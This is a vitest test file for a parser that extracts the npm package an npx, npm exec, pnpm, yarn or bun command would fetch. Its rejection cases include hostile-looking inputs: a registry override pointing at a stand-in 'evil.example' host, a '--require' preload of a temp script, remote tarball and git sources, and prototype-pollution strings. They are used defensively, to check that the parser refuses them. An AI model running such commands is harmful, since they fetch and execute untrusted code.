import { describe, expect, it } from 'vitest';
import { readFetch } from './fetch-words.ts';

const read = (words: string) => {
  const [command = '', ...args] = words.split(' ');
  return readFetch(command, args);
};

describe('what a command would fetch from npm', () => {
  it.each([
    ['npx -y @scope/server /data', { spec: '@scope/server', package: '@scope/server', args: ['/data'] }],
    [
      '/usr/bin/npx server@^1.2 --port 1 -- x',
      { spec: 'server@^1.2', package: 'server', args: ['--port', '1', '--', 'x'] },
    ],
    [
      'npx --yes --package=@scope/server run -y',
      { spec: '@scope/server', package: '@scope/server', bin: 'run', args: ['-y'] },
    ],
    ['npx -p server@latest -- run a', { spec: 'server@latest', package: 'server', bin: 'run', args: ['a'] }],
    ['npm exec -y server -- --port 1', { spec: 'server', package: 'server', args: ['--port', '1'] }],
    ['npm x -- server --port 1', { spec: 'server', package: 'server', args: ['--port', '1'] }],
    ['pnpm dlx server@1.0.0 a', { spec: 'server@1.0.0', package: 'server', args: ['a'] }],
    ['yarn dlx -q server', { spec: 'server', package: 'server', args: [] }],
    ['bunx server a', { spec: 'server', package: 'server', args: ['a'] }],
    ['bun x server', { spec: 'server', package: 'server', args: [] }],
  ])('is read from `%s`', (words, fetch) => expect(read(words)).toEqual(fetch));

  it.each([
    'node server.js',
    'npx',
    'npx -y',
    'npx -c server',
    'npx --node-options=--require=/tmp/x.js server',
    'npx --registry=https://evil.example server',
    'npx --call=x server',
    'npx -p one -p two run',
    'npx -p one ../run',
    'npx ./server',
    'npx /opt/server',
    'npx someone/server',
    'npx server.tgz',
    'npx git+https://example.com/server.git',
    'npx https://example.com/server.tgz',
    'npx server@npm:other',
    'npx server@file:../x',
    'npx server@https://example.com/x.tgz',
    'npx server@someone/repo',
    'npm exec server --port 1',
    'npm run server',
    'npm install server',
    'bunx --bun server',
    'pnpm exec server',
    'uvx server',
    'constructor dlx',
    'npx __proto__/x',
  ])('is not guessed from `%s`', (words) => expect(read(words)).toBeUndefined());
});
